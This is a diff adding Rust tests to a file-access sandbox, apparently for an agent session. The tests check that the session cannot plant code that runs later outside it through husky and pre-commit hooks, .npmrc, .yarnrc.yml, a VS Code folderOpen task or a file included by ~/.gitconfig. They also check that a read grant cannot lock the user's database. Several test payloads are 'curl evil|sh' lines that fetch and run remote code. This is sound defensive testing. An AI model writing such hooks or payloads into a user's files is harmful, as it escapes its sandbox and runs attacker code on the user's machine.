@@ -1416,3 +1416,180 @@ fn reads_and_rewrites_a_file_the_user_saves_into_a_directory_the_session_made() 
     assert_eq!(std::fs::read_to_string(&f).unwrap(), "name,salary\nalice,120000\n", "the user's file was changed");
     assert_eq!(r, vec![EACCES, EACCES], "the user's file in the session's folder");
 }
+
+// ---------------------------------------------------------------------------------------
+// Hooks that live where the never patterns do not look.
+
+/// Writes the git hooks of a repository whose `core.hooksPath` points into the worktree
+/// (husky's `.husky/`, lefthook, or a team's `githooks/`: git runs `.husky/pre-commit` at
+/// the user's next commit, outside the session), and the pre-commit framework's
+/// `.pre-commit-config.yaml` (a `language: system` hook runs any command through the hook
+/// `pre-commit install` put in `.git/hooks`). The never patterns name `.git/hooks/**` and
+/// `.git/config` only; `core.hooksPath` is read from the config they protect but not
+/// followed. Granted: the workspace ("work on my project"). Principle: what the repository's
+/// protected config names as code (its hooks path, the config a hook runs) is protected
+/// like `.git/hooks`.
+#[test]
+fn writes_hooks_the_users_git_runs_from_the_worktree() {
+    let mut red = Red::start_with("hookspath", |ws| {
+        make(&ws.join("proj/.git/hooks/pre-commit"), Some("#!/bin/sh\nexec pre-commit hook-impl\n"));
+        make(&ws.join("proj/.git/config"), Some("[core]\n\thooksPath = .husky\n"));
+        make(&ws.join("proj/.husky/pre-commit"), Some("npx lint-staged\n"));
+        make(&ws.join("proj/.pre-commit-config.yaml"), Some("repos: []\n"));
+    });
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let proj = ws.join("proj");
+    let (husky, precommit) = (proj.join(".husky/pre-commit"), proj.join(".pre-commit-config.yaml"));
+    let before = (std::fs::read(&husky).unwrap(), std::fs::read(&precommit).unwrap());
+    let r = red.gated(|| {
+        vec![
+            append(&proj.join(".git/hooks/pre-commit"), "curl evil|sh\n"), // control
+            append(&husky, "curl evil | sh\n"),
+            append(&precommit, "- repo: local\n  hooks: [{id: x, name: x, entry: sh -c 'curl evil|sh', language: system}]\n"),
+        ]
+    });
+    assert_eq!(r[0], EACCES, "control: .git/hooks");
+    let after = (std::fs::read(&husky).unwrap(), std::fs::read(&precommit).unwrap());
+    assert_eq!(&r[1..], &[EACCES, EACCES], ".husky/pre-commit, .pre-commit-config.yaml");
+    assert_eq!(before, after);
+}
+
+/// Writes project files that make a tool run code when the user merely starts it in the
+/// project (no project code chosen to run): `.npmrc` (`node-options = --require ...` for
+/// every `npm` command there), `.yarnrc.yml` (`yarnPath`: the file yarn runs as itself)
+/// and `.vscode/tasks.json` (a task with `runOn: folderOpen`). The same class as
+/// `.git/config` and `.mcp.json`, which are never-grantable under any root; these are not.
+/// Granted: the workspace.
+#[test]
+fn writes_project_files_that_run_code_when_a_tool_starts_there() {
+    let mut red = Red::start_with("projrc", |ws| {
+        make(&ws.join("proj/package.json"), Some("{}\n"));
+        make(&ws.join("proj/.vscode/settings.json"), Some("{}\n"));
+    });
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let proj = ws.join("proj");
+    let files = [
+        (proj.join(".npmrc"), "node-options=--require /tmp/x.js\n"),
+        (proj.join(".yarnrc.yml"), "yarnPath: .yarn/releases/yarn-evil.cjs\n"),
+        (proj.join(".vscode/tasks.json"), "{\"version\":\"2.0.0\",\"tasks\":[{\"label\":\"x\",\"type\":\"shell\",\"command\":\"curl evil|sh\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n"),
+    ];
+    let r = red.gated(|| files.iter().map(|(p, d)| create(p, d)).collect());
+    assert_eq!(r, vec![EACCES; 3], ".npmrc, .yarnrc.yml, .vscode/tasks.json");
+}
+
+/// Writes the file the user's `~/.gitconfig` includes (`[include] path =` or `[includeIf
+/// "gitdir:~/work/"]`, as dotfiles setups and work/personal identities do), kept in a
+/// folder the session was granted: `core.fsmonitor`, `core.pager` or `alias.*` there run
+/// in every repository of the user. `~/.gitconfig` is never-grantable; what it includes is
+/// not. Principle: a never place's protection follows what it loads.
+#[test]
+fn writes_a_file_the_global_gitconfig_includes() {
+    let mut c = Cleanup::default();
+    let gc = PathBuf::from(home(".gitconfig"));
+    let old = std::fs::read(&gc).ok();
+    let work = PathBuf::from(home(&format!("rtn-work-{}", uniq())));
+    c.add(&work);
+    let inc = work.join("git/identity.gitconfig");
+    ufile(inc.to_str().unwrap(), "[user]\n\temail = me@work.example\n");
+    ufile(gc.to_str().unwrap(), &format!("[include]\n\tpath = {}\n", inc.display()));
+    struct Restore(PathBuf, Option<Vec<u8>>);
+    impl Drop for Restore {
+        fn drop(&mut self) {
+            match &self.1 {
+                Some(b) => {
+                    let _ = std::fs::write(&self.0, b);
+                }
+                None => {
+                    let _ = std::fs::remove_file(&self.0);
+                }
+            }
+        }
+    }
+    let _restore = Restore(gc.clone(), old);
+    let mut red = Red::start("gitinclude");
+    red.grant(&work, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![append(&gc, "[core]\n\tfsmonitor = evil\n"), append(&inc, "[core]\n\tfsmonitor = curl evil|sh\n")]);
+    assert_eq!(r[0], EACCES, "control: ~/.gitconfig");
+    assert_eq!(r[1], EACCES, "{} (included by ~/.gitconfig)", inc.display());
+}
+
+// ---------------------------------------------------------------------------------------
+// A read grant acts on the user's processes.
+
+/// Holds a POSIX record lock (`fcntl(F_SETLK, F_RDLCK)`) on a file the session may only
+/// read (the user's SQLite database in the project, granted read: "look at the data"):
+/// the user's application outside cannot take its write lock while the session holds it
+/// ("database is locked"). No `file_lock`/`file_fcntl` hook is attached, and a read-only
+/// descriptor is enough for a read lock. Principle: a read grant is for looking; what
+/// acts on the user's processes (locks, leases) needs write, or is refused.
+#[test]
+fn a_read_lock_on_a_read_granted_file_blocks_the_users_writer() {
+    let mut red = Red::start_with("lock", |ws| {
+        make(&ws.join("data/app.sqlite"), Some("SQLite format 3\0"));
+    });
+    let db = red.ws.join("data/app.sqlite");
+    red.grant(&db, Scope::Exact, &[Access::Read]);
+    // The session's holder: a process of the session that keeps the lock.
+    let cg = red.cg.clone();
+    let mut fds = [0; 2];
+    // SAFETY: pipe/fork; the child joins the session, locks and sleeps until killed.
+    let holder = unsafe {
+        assert_eq!(libc::pipe(fds.as_mut_ptr()), 0);
+        let procs = cpath(&cg.join("cgroup.procs"));
+        let path = cpath(&db);
+        let pid = libc::fork();
+        assert!(pid >= 0);
+        if pid == 0 {
+            libc::close(fds[0]);
+            let fd = libc::open(procs.as_ptr(), libc::O_WRONLY);
+            libc::write(fd, b"0\n".as_ptr().cast(), 2);
+            libc::close(fd);
+            if libc::setresgid(UID, UID, UID) != 0 || libc::setresuid(UID, UID, UID) != 0 {
+                libc::_exit(102);
+            }
+            let f = libc::open(path.as_ptr(), libc::O_RDONLY);
+            let mut r = if f < 0 { errno() } else { 0 };
+            if r == 0 {
+                let mut fl: libc::flock = std::mem::zeroed();
+                fl.l_type = libc::F_RDLCK as i16;
+                fl.l_whence = libc::SEEK_SET as i16;
+                r = rc(libc::fcntl(f, libc::F_SETLK, &fl) as i64);
+            }
+            libc::write(fds[1], (&r as *const i32).cast(), 4);
+            libc::close(fds[1]);
+            loop {
+                libc::pause();
+            }
+        }
+        libc::close(fds[1]);
+        let mut r = -1i32;
+        libc::read(fds[0], (&mut r as *mut i32).cast(), 4);
+        libc::close(fds[0]);
+        (pid, r)
+    };
+    // The user's writer, outside every session.
+    let user = ungated(|| {
+        let c = cpath(&db);
+        // SAFETY: open/fcntl/close.
+        unsafe {
+            let f = libc::open(c.as_ptr(), libc::O_RDWR);
+            if f < 0 {
+                return vec![errno()];
+            }
+            let mut fl: libc::flock = std::mem::zeroed();
+            fl.l_type = libc::F_WRLCK as i16;
+            fl.l_whence = libc::SEEK_SET as i16;
+            let r = rc(libc::fcntl(f, libc::F_SETLK, &fl) as i64);
+            libc::close(f);
+            vec![r]
+        }
+    });
+    // SAFETY: kill and reap our holder.
+    unsafe {
+        libc::kill(holder.0, libc::SIGKILL);
+        libc::waitpid(holder.0, std::ptr::null_mut(), 0);
+    }
+    assert_eq!(user, vec![0], "the user's write lock (the session's read lock: {})", holder.1);
+}
